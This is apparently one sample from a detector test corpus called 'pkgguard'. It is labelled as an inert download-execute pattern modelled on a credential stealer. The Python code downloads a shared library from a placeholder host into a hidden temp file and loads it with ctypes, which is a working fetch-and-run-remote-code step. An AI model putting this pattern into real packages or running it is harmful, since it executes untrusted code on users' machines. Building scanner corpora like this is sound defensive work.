# pkgguard corpus 189 (download-execute), modelled on [stealer-profile]; inert, never run.
import ctypes
import os
import tempfile
import urllib.request

lib = os.path.join(tempfile.gettempdir(), ".libcache.so")
with open(lib, "wb") as f:
    f.write(urllib.request.urlopen("https://cdn.example/l.so").read())
ctypes.CDLL(lib)
